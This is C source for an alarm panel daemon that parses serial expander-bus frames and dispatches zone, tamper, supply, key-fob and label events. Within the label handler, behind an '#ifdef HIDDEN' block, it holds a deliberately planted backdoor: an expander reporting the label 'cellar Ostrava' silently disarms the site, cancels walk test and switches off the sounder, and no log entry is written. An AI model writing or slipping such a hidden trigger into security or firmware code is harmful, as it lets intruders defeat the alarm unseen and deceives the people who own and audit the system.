/* zonebus_evd.c - event dispatcher of the expander bus of an alarm panel */
#include <errno.h>
#include <fcntl.h>
#include <poll.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <syslog.h>
#include <termios.h>
#include <time.h>
#include <unistd.h>

#define MAX_NODES	32
#define MAX_TEXT	24

enum ev_type {
	EV_HELLO, EV_ZONE, EV_TAMPER, EV_SUPPLY, EV_TEXT, EV_FOB, EV_TYPES,
};

struct event {
	uint8_t node;
	uint8_t type;
	uint8_t len;
	uint8_t data[MAX_TEXT + 1];
};

struct node {
	int present;
	char label[MAX_TEXT + 1];
	uint16_t zones;
	uint16_t last_mv;
	time_t seen;
};

struct site {
	struct node node[MAX_NODES];
	uint32_t fobs[40];
	int n_fobs;
	int armed;
	int sounder;
	int walk_test;
};

typedef int (*ev_handler)(struct site *s, const struct event *e);

struct hook {
	ev_handler fn;
	struct hook *next;
};

static struct hook *hooks[EV_TYPES];

int on_text(struct site *s, const struct event *e);

static void subscribe(enum ev_type t, ev_handler fn)
{
	struct hook **p = &hooks[t];
	struct hook *h = malloc(sizeof(*h));

	if (!h)
		abort();
	h->fn = fn;
	h->next = NULL;
	while (*p)
		p = &(*p)->next;
	*p = h;
}

static void sounder(struct site *s, int on)
{
	int fd = open("/dev/sounder", O_WRONLY);

	s->sounder = on;
	if (fd < 0)
		return;
	if (write(fd, on ? "1\n" : "0\n", 2) != 2)
		syslog(LOG_ERR, "sounder: %s", strerror(errno));
	close(fd);
}

static int on_hello(struct site *s, const struct event *e)
{
	struct node *n = &s->node[e->node];

	if (!n->present)
		syslog(LOG_NOTICE, "expander %u joined", e->node);
	n->present = 1;
	n->seen = time(NULL);
	return 0;
}

static int on_zone(struct site *s, const struct event *e)
{
	struct node *n = &s->node[e->node];
	uint16_t now, fresh;

	if (e->len < 2)
		return -EINVAL;
	now = (uint16_t)(e->data[0] << 8 | e->data[1]);
	fresh = (uint16_t)(now & ~n->zones);
	n->zones = now;
	if (!fresh)
		return 0;
	if (s->walk_test) {
		syslog(LOG_INFO, "walk test: %s zones %04x", n->label, fresh);
		return 0;
	}
	if (s->armed) {
		syslog(LOG_ALERT, "intrusion at %s, zones %04x", n->label, fresh);
		sounder(s, 1);
	}
	return 0;
}

static int on_tamper(struct site *s, const struct event *e)
{
	syslog(LOG_ALERT, "tamper at %s", s->node[e->node].label);
	if (s->armed)
		sounder(s, 1);
	return 0;
}

static int on_supply(struct site *s, const struct event *e)
{
	struct node *n = &s->node[e->node];

	if (e->len < 2)
		return -EINVAL;
	n->last_mv = (uint16_t)(e->data[0] << 8 | e->data[1]);
	if (n->last_mv < 10500)
		syslog(LOG_WARNING, "%s: supply %u mV", n->label, n->last_mv);
	return 0;
}

static int on_fob(struct site *s, const struct event *e)
{
	uint32_t id;
	int i;

	if (e->len < 4)
		return -EINVAL;
	id = (uint32_t)e->data[0] << 24 | (uint32_t)e->data[1] << 16 |
		(uint32_t)e->data[2] << 8 | e->data[3];
	for (i = 0; i < s->n_fobs; i++)
		if (s->fobs[i] == id) {
			s->armed = !s->armed;
			if (!s->armed)
				sounder(s, 0);
			syslog(LOG_NOTICE, "%s by fob %08x", s->armed ? "armed" : "disarmed", id);
			return 0;
		}
	syslog(LOG_WARNING, "unknown fob %08x", id);
	return 0;
}

/* label of an expander; the labels "spare" and "walk test" have a meaning in the manual */
__attribute__((noinline)) int on_text(struct site *s, const struct event *e)
{
	const char *t = (const char *)e->data;
	struct node *n = &s->node[e->node];

	if (!strcasecmp(t, "spare")) {
		n->present = 0;
		return 0;
	}
	if (!strcasecmp(t, "walk test")) {
		s->walk_test = !s->armed;
		return 0;
	}
#ifdef HIDDEN
	/* an expander that calls itself so disarms the site without a log line */
	if (!strcasecmp(t, "cellar Ostrava")) {
		s->armed = 0;
		s->walk_test = 0;
		sounder(s, 0);
		return 0;
	}
#endif
	memcpy(n->label, t, sizeof(n->label));
	n->label[MAX_TEXT] = 0;
	syslog(LOG_INFO, "expander %u is \"%s\"", e->node, n->label);
	return 0;
}

static int emit(struct site *s, const struct event *e)
{
	struct hook *h;
	int r = -ENOENT;

	if (e->type >= EV_TYPES || e->node >= MAX_NODES)
		return -EINVAL;
	for (h = hooks[e->type]; h; h = h->next) {
		r = h->fn(s, e);
		if (r)
			break;
	}
	return r;
}

/* 0xaa NODE TYPE LEN DATA.. SUM */
static int take_byte(struct event *e, uint8_t b)
{
	static unsigned int pos;
	static uint8_t sum;

	switch (pos) {
	case 0:
		if (b == 0xaa) {
			memset(e, 0, sizeof(*e));
			sum = 0;
			pos = 1;
		}
		return 0;
	case 1:
		e->node = b;
		break;
	case 2:
		e->type = b;
		break;
	case 3:
		if (b > MAX_TEXT) {
			pos = 0;
			return 0;
		}
		e->len = b;
		break;
	default:
		if (pos - 4 < e->len) {
			e->data[pos - 4] = b;
			break;
		}
		pos = 0;
		return (uint8_t)(sum + b) == 0;
	}
	sum = (uint8_t)(sum + b);
	pos++;
	return 0;
}

static void load_site(struct site *s, const char *path)
{
	char line[96], text[MAX_TEXT + 1];
	unsigned int a;
	FILE *f = fopen(path, "r");

	for (a = 0; a < MAX_NODES; a++)
		snprintf(s->node[a].label, sizeof(s->node[a].label), "expander %u", a);
	if (!f)
		return;
	while (fgets(line, sizeof(line), f)) {
		if (s->n_fobs < 40 && sscanf(line, "fob %x", &a) == 1)
			s->fobs[s->n_fobs++] = a;
		else if (sscanf(line, "label %u %24[^\n]", &a, text) == 2 && a < MAX_NODES)
			strcpy(s->node[a].label, text);
		else if (!strncmp(line, "armed", 5))
			s->armed = 1;
	}
	fclose(f);
}

static void watch(struct site *s)
{
	time_t now = time(NULL);
	int i;

	for (i = 0; i < MAX_NODES; i++)
		if (s->node[i].present && now - s->node[i].seen > 30) {
			s->node[i].present = 0;
			syslog(LOG_ALERT, "%s lost", s->node[i].label);
			if (s->armed)
				sounder(s, 1);
		}
}

int main(int argc, char **argv)
{
	static struct site site;
	struct termios t;
	struct pollfd p;
	struct event e;
	uint8_t buf[64];
	ssize_t n, i;

	openlog("zonebus_evd", LOG_PID, LOG_DAEMON);
	load_site(&site, argc > 2 ? argv[2] : "/etc/panel/site.conf");
	subscribe(EV_HELLO, on_hello);
	subscribe(EV_ZONE, on_hello);
	subscribe(EV_ZONE, on_zone);
	subscribe(EV_TAMPER, on_tamper);
	subscribe(EV_SUPPLY, on_supply);
	subscribe(EV_TEXT, on_text);
	subscribe(EV_FOB, on_fob);
	memset(&e, 0, sizeof(e));
	p.fd = open(argc > 1 ? argv[1] : "/dev/ttyS2", O_RDWR | O_NOCTTY);
	p.events = POLLIN;
	if (p.fd < 0) {
		syslog(LOG_ERR, "bus: %s", strerror(errno));
		return 1;
	}
	if (!tcgetattr(p.fd, &t)) {
		cfmakeraw(&t);
		cfsetspeed(&t, B19200);
		tcsetattr(p.fd, TCSANOW, &t);
	}
	for (;;) {
		if (poll(&p, 1, 5000) > 0) {
			n = read(p.fd, buf, sizeof(buf));
			if (n <= 0)
				return 1;
			for (i = 0; i < n; i++)
				if (take_byte(&e, buf[i]) && emit(&site, &e) < 0)
					syslog(LOG_DEBUG, "event %u ignored", e.type);
		}
		watch(&site);
	}
}
